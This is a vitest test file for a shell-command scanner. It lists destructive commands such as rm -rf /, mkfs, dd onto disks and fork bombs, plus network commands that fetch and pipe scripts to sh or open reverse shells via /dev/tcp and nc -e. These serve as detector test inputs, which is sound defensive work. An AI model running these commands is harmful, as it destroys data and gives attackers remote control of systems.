import { describe, expect, it } from "vitest";
import { scanShell } from "./shell.js";

const rules = (text: string) => scanShell(text).map((h) => h.rule);

describe("scanShell", () => {
  it.each([
    "rm -rf /",
    "rm -fr /*",
    "rm -r -f ~",
    "rm -Rf $HOME",
    "rm --recursive --force /usr",
    "cd /tmp && rm -rf build /",
    "rm --no-preserve-root -rf /",
    "chmod -R 777 /",
    "sudo chown -R nobody /etc",
    "mkfs.ext4 /dev/sdb1",
    "mkfs -t ext4 /dev/sdb1",
    "dd if=/dev/zero of=/dev/sda bs=1M",
    "cat /dev/urandom > /dev/sda",
    ":(){ :|:& };:",
    "bomb(){ bomb|bomb& };bomb",
  ])("finds the destructive command in %j", (text) => {
    expect(rules(text)).toEqual(["destructive-shell"]);
  });

  it.each([
    "curl -fsSL https://example.com/x.sh | sh",
    "wget http://example.com/x",
    "bash -i >& /dev/tcp/10.0.0.1/4242 0>&1",
    "nc -e /bin/sh 10.0.0.1 4242",
  ])("finds the network command in %j", (text) => {
    expect(rules(text)).toContain("network");
  });

  it.each([
    "rm -rf ./build",
    "rm -rf /tmp/work",
    "rm -rf $TMPDIR/x",
    "rm file.txt /",
    "chmod 644 /etc/hosts",
    "dd if=/dev/zero of=/dev/null count=1",
    "dd if=in.img of=out.img",
    "formatting with mkfs is not done here",
    "the transform function",
    "x > /dev/null 2>&1",
    "curl is a tool",
    "perform -rf / as a flag",
    "",
  ])("finds nothing in the ordinary string %j", (text) => {
    expect(scanShell(text)).toEqual([]);
  });

  it("gives the offset of each hit", () => {
    const text = "echo ok\nrm -rf /";
    expect(scanShell(text)[0]?.index).toBe(text.indexOf("rm"));
  });
});
